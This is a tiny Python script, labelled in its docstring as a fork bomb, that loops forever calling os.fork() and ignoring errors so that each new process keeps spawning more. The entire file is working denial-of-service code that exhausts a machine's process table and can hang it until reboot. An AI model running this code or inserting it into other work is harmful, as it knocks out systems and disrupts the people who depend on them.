"""A fork bomb: every process forks for as long as it can."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
